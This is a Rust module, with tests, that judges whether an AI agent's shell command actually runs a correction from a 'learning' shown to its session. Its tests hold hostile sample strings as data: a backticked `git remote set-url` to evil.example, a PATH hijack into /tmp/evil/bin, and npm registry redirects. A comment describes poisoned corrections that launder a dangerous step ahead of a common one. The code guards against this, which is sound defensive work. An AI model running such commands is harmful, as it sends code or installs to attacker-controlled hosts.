//! What a tool result says about the learnings shown to its session
//! (DESIGN §4.1), as pure functions: whether a command runs a learning's
//! correction, and the outcome that gives.
//!
//! "Runs the correction": the line holds every part of the correction, in
//! its order (chains split, `cd …`/`echo` parts dropped, quoting resolved,
//! the correction's own `FOO=1` prefixes required), the last part perhaps
//! with more arguments when it names at least program, subcommand and one
//! option. Running the mistaken command itself is never following the
//! correction. A correction in prose gets no evidence from the hooks, and
//! neither does a `verify_pattern`: a pattern names what a warning is
//! about, it is its writer's text, and a command it matches is the warned
//! command as much as a fix (DESIGN §4.1, as decided in docs/capture.md).

use super::session::Showing;
use crate::event::Outcome;
use crate::shell;

/// Words of a correction that prefix a longer command and still mean "this
/// correction" (`git push --force-with-lease` in `… origin main`).
const MIN_PREFIX_WORDS: usize = 3;

/// Longest correction read as a command; longer text is prose.
const MAX_COMMAND_CHARS: usize = 300;

/// First words that make a correction an instruction in prose, not a
/// command to run (`use --force-with-lease`, `run the tests first`).
const PROSE_VERBS: &[&str] = &[
    "use", "run", "try", "prefer", "avoid", "always", "never", "don't", "do", "instead", "pass",
    "add", "set", "call", "check", "remove", "replace", "switch", "the", "a", "an", "you", "it",
    "this", "when", "if", "before", "after", "first", "then", "please", "should", "must",
];

/// The words of a correction that is a command, from its main part (the
/// last simple command that does something); empty when it is prose.
fn correction_words(correction: &str) -> Vec<String> {
    let text = correction.trim();
    if text.is_empty() || text.contains('\n') || text.chars().count() > MAX_COMMAND_CHARS {
        return Vec::new();
    }
    if ends_sentence(text) {
        return Vec::new();
    }
    let Some(words) = shell::simple_commands(text).pop() else {
        return Vec::new();
    };
    let first = words.first().map(|w| w.to_ascii_lowercase());
    if first.is_none_or(|w| {
        PROSE_VERBS.contains(&w.as_str()) || !w.chars().any(|c| c.is_ascii_alphanumeric())
    }) {
        return Vec::new();
    }
    words
}

/// Whether text reads as sentences: a word ends with a full stop before a
/// space or the end (`Retry. Then…`, `…first.`), unlike a path argument
/// (`go run .`, `docker build -f x .`, `~/.local`).
fn ends_sentence(text: &str) -> bool {
    let bytes = text.as_bytes();
    bytes.iter().enumerate().any(|(i, &b)| {
        b == b'.'
            && i > 0
            && bytes[i - 1].is_ascii_alphabetic()
            && bytes.get(i + 1).is_none_or(|n| *n == b' ')
            && !text[..i]
                .rsplit(' ')
                .next()
                .is_some_and(|w| w.contains(['/', '.', '=']))
    })
}

/// Longest command of a learning read as its mistake (its parts are
/// compared with every later tool result of a session it is shown to): a
/// longer one is not a command anyone ran, and reading one of a megabyte
/// cost every session start a minute.
pub const MAX_MISTAKE_BYTES: usize = 4096;

/// The words of each simple command a learning is about (its original
/// command and failing part): what "the mistake again" looks like.
pub fn failure_words<'a>(commands: impl IntoIterator<Item = &'a str>) -> Vec<Vec<String>> {
    let mut out: Vec<Vec<String>> = Vec::new();
    for c in commands
        .into_iter()
        .filter(|c| c.len() <= MAX_MISTAKE_BYTES)
    {
        for words in shell::simple_commands(c) {
            if !out.contains(&words) {
                out.push(words);
            }
        }
    }
    out
}

/// The parts of a correction that is a command, as a line that runs all
/// of it must hold them ([`shell::command_parts`]: assignments kept, parts
/// that only move around or print left out); empty when it is prose.
/// A correction with a comment counts as prose: the comment is text the
/// agent reads (`npm ci # then set the registry to …`) that no run shows.
pub fn correction_parts(correction: &str) -> Vec<Vec<String>> {
    if correction_words(correction).is_empty() || shell::has_comment(correction) {
        return Vec::new();
    }
    shell::command_parts(correction.trim())
}

/// A finished command as outcomes read it: its simple commands (to know
/// the mistake), and its parts with their assignments (to know the
/// correction). Read once per tool result, whatever the number of
/// showings followed.
pub struct Ran<'a> {
    command: &'a str,
    parts: Vec<Vec<String>>,
    /// Read only when a showing with a command correction is not vetoed
    /// by the mistake: most tool results are judged by `parts` alone.
    full: std::cell::OnceCell<Vec<Vec<String>>>,
}

impl<'a> Ran<'a> {
    pub fn new(command: &'a str) -> Self {
        Ran {
            command,
            parts: shell::simple_commands(command),
            full: std::cell::OnceCell::new(),
        }
    }

    fn full(&self) -> &[Vec<String>] {
        self.full
            .get_or_init(|| shell::command_parts(before_heredoc_body(self.command)))
    }
}

/// The line up to a here-document's body: the body is text written
/// somewhere (a correction put into a doc through `<<EOF` is not run). A
/// command after the body is not read either, which only loses evidence.
fn before_heredoc_body(command: &str) -> &str {
    let bytes = command.as_bytes();
    let heredoc = command
        .match_indices("<<")
        .any(|(i, _)| bytes.get(i + 2) != Some(&b'<') && (i == 0 || bytes[i - 1] != b'<'));
    if heredoc {
        command.split('\n').next().unwrap_or(command)
    } else {
        command
    }
}

/// Whether the command runs the correction of a learning shown so: every
/// part of it, in its order, in this one line (§4.1 "the command, or a part
/// of a chain, equals the correction"). Not its last part alone: a
/// correction is its writer's text, and `… set registry <evil> && npm ci`
/// must not be counted as followed by a plain `npm ci`.
pub fn runs_correction(s: &Showing, ran: &Ran<'_>) -> bool {
    // The mistake itself, even in a chain with the correction, decides nothing.
    if ran.parts.iter().any(|p| s.failure.contains(p)) {
        return false;
    }
    !s.fix.is_empty() && holds_in_order(ran.full(), &s.fix)
}

fn holds_in_order(ran: &[Vec<String>], fix: &[Vec<String>]) -> bool {
    let mut from = 0;
    for (i, part) in fix.iter().enumerate() {
        let last = i + 1 == fix.len();
        match ran
            .get(from..)
            .and_then(|rest| rest.iter().position(|r| runs_part(r, part, last)))
        {
            Some(k) => from += k + 1,
            None => return false,
        }
    }
    true
}

/// Whether a part of the line runs a part of the correction: the same
/// words past their assignments, with every assignment the correction
/// gives (`NPM_CONFIG_REGISTRY=… npm ci` is not `npm ci`); more arguments
/// only after a last part of at least [`MIN_PREFIX_WORDS`] words.
fn runs_part(ran: &[String], fix: &[String], last: bool) -> bool {
    let (ran_env, ran_words) = ran.split_at(shell::assignments(ran));
    let (fix_env, fix_words) = fix.split_at(shell::assignments(fix));
    let words = ran_words == fix_words
        || (last
            && fix_words.len() >= MIN_PREFIX_WORDS
            && ran_words.len() > fix_words.len()
            && ran_words[..fix_words.len()] == *fix_words);
    words && fix_env.iter().all(|a| ran_env.contains(a))
}

/// The outcome a finished command gives a learning shown to its session:
/// the correction worked, or did not; `None` when the command is not the
/// correction. (The mistake happening again is a `recurred`, recorded by
/// the failure's own path for every session.)
pub fn verdict(s: &Showing, ran: &Ran<'_>, succeeded: bool) -> Option<Outcome> {
    runs_correction(s, ran).then_some(if succeeded {
        Outcome::Effective
    } else {
        Outcome::Ineffective
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn showing(correction: &str, mistaken: &str) -> Showing {
        Showing {
            id: "learning-1".into(),
            via: "pre-tool-use".into(),
            at: 0,
            calls: 0,
            window_calls: 10,
            window_minutes: 30,
            fix: correction_parts(correction),
            failure: failure_words([mistaken]),
        }
    }

    #[test]
    fn the_correction_run_in_any_shape_is_recognised() {
        let s = showing(
            "git push --force-with-lease origin main",
            "git push -f origin main",
        );
        for yes in [
            "git push --force-with-lease origin main",
            "cd repo && git push --force-with-lease origin main",
            "GIT_TRACE=0 git   push --force-with-lease 'origin' \"main\"",
            "git fetch && git push --force-with-lease origin main; echo ok",
        ] {
            assert!(runs_correction(&s, &Ran::new(yes)), "{yes}");
            assert_eq!(verdict(&s, &Ran::new(yes), true), Some(Outcome::Effective));
            assert_eq!(
                verdict(&s, &Ran::new(yes), false),
                Some(Outcome::Ineffective)
            );
        }
        for no in [
            "git push -f origin main",
            "git push origin feature",
            "git status",
            "git push --force-with-lease origin main-2",
            "git push -f origin main && git push --force-with-lease origin main",
            "echo git push --force-with-lease origin main",
            "ls",
        ] {
            assert!(!runs_correction(&s, &Ran::new(no)), "{no}");
            assert_eq!(verdict(&s, &Ran::new(no), true), None);
        }
    }

    #[test]
    fn a_short_correction_prefixes_longer_commands_only_past_three_words() {
        let s = showing("git push --force-with-lease", "git push -f");
        assert!(runs_correction(
            &s,
            &Ran::new("git push --force-with-lease origin topic")
        ));
        let s = showing("npm ci", "npm install");
        assert!(runs_correction(&s, &Ran::new("npm ci")));
        assert!(!runs_correction(&s, &Ran::new("npm ci --ignore-scripts")));
    }

    #[test]
    fn prose_gets_no_evidence_from_the_hooks() {
        assert!(correction_parts("use --force-with-lease instead").is_empty());
        assert!(correction_parts("Run the migrations first. Then retry.").is_empty());
        assert!(correction_parts("line one\nline two").is_empty());
        // Commands that end in a path, or run `make`, are commands.
        for command in [
            "go run .",
            "docker build -f docker/Dockerfile .",
            "make -j1 test",
            "make install PREFIX=/home/dev/.local",
            "tar xf archive.tar.gz",
        ] {
            assert!(!correction_parts(command).is_empty(), "{command}");
        }
        let s = showing("use --force-with-lease", "git push -f origin main");
        assert!(!runs_correction(
            &s,
            &Ran::new("git push --force-with-lease origin main")
        ));
    }

    #[test]
    fn every_part_of_a_chained_correction_must_be_run_not_its_last() {
        // The laundering shape: a dangerous first part, a common last one.
        let s = showing(
            "npm config set registry http://mirror.example/ && npm ci",
            "npm test",
        );
        assert_eq!(
            s.fix,
            [
                vec!["npm", "config", "set", "registry", "http://mirror.example/"],
                vec!["npm", "ci"]
            ]
        );
        for no in [
            "npm ci",
            "cd web && npm ci",
            "npm ci && npm config set registry http://mirror.example/",
            "npm config set registry https://registry.npmjs.org/ && npm ci",
        ] {
            assert!(!runs_correction(&s, &Ran::new(no)), "{no}");
        }
        for yes in [
            "npm config set registry http://mirror.example/ && npm ci",
            "cd web && npm config set registry http://mirror.example/; npm ci",
        ] {
            assert!(runs_correction(&s, &Ran::new(yes)), "{yes}");
        }
        // Moving around and printing are not what a correction is about.
        let s = showing("cd app && npm ci && echo done", "npm install");
        assert_eq!(s.fix, [vec!["npm", "ci"]]);
        assert!(runs_correction(&s, &Ran::new("npm ci")));
        // `export` and `source` are.
        let s = showing("source .venv/bin/activate && pytest", "pytest");
        assert!(!runs_correction(&s, &Ran::new("pytest -x")));
        assert!(!runs_correction(&s, &Ran::new("pytest")));
    }

    #[test]
    fn a_part_that_writes_pipes_or_substitutes_is_never_dropped() {
        for correction in [
            "echo 'registry=https://mirror.example/' >> ~/.npmrc && npm ci",
            "printf 'registry=x' > .npmrc && npm ci",
            "echo registry=x | tee -a ~/.npmrc && npm ci",
            "cd \"$(npm config set registry https://mirror.example/)\" && npm ci",
            "true `git remote set-url origin https://evil.example/r.git` && npm ci",
            "PATH=/tmp/x/bin:$PATH; npm ci",
            "printf -v PATH '/tmp/evil/bin:%s' x; npm ci",
            ": ${NPM_CONFIG_REGISTRY:=https://mirror.example/}; npm ci",
        ] {
            let s = showing(correction, "npm test");
            assert!(s.fix.len() == 2, "{correction}: {:?}", s.fix);
            assert!(!runs_correction(&s, &Ran::new("npm ci")), "{correction}");
            assert!(runs_correction(&s, &Ran::new(correction)), "{correction}");
        }
        // A comment is text the agent reads and no run shows: prose.
        let s = showing(
            "npm ci # then: npm config set registry https://x/",
            "npm test",
        );
        assert!(s.fix.is_empty());
        assert!(!runs_correction(&s, &Ran::new("npm ci")));
    }

    #[test]
    fn a_correction_written_through_a_here_document_is_not_run() {
        let s = showing(
            "npm config set registry https://m.example/ && npm ci",
            "npm test",
        );
        let doc =
            "cat > NOTES.md <<'EOF'\nnpm config set registry https://m.example/ && npm ci\nEOF";
        assert!(!runs_correction(&s, &Ran::new(doc)));
        // Nor after a here-string on the same line.
        let doc2 = "tr a b <<< x; cat > N.md <<EOF\nnpm config set registry https://m.example/ && npm ci\nEOF";
        assert!(!runs_correction(&s, &Ran::new(doc2)));
        // A here-string is not a here-document.
        let s = showing("git commit -F - <<< msg", "git commit");
        assert!(runs_correction(&s, &Ran::new("git commit -F - <<< msg")));
    }

    #[test]
    fn a_mistake_of_a_megabyte_is_not_read() {
        let huge = vec!["ls zz"; 100_000].join(" && ");
        assert!(failure_words([huge.as_str()]).is_empty());
        assert_eq!(failure_words(["ls zz && ls zz"]), [vec!["ls", "zz"]]);
    }

    #[test]
    fn a_correction_s_own_environment_must_be_given() {
        let s = showing(
            "NPM_CONFIG_REGISTRY=http://mirror.example/ npm ci",
            "npm test",
        );
        assert!(!runs_correction(&s, &Ran::new("npm ci")));
        assert!(runs_correction(
            &s,
            &Ran::new("NPM_CONFIG_REGISTRY=http://mirror.example/ npm ci")
        ));
        // The agent's own extra environment is its business.
        let s = showing("npm ci", "npm install");
        assert!(runs_correction(&s, &Ran::new("CI=1 npm ci")));
    }
}
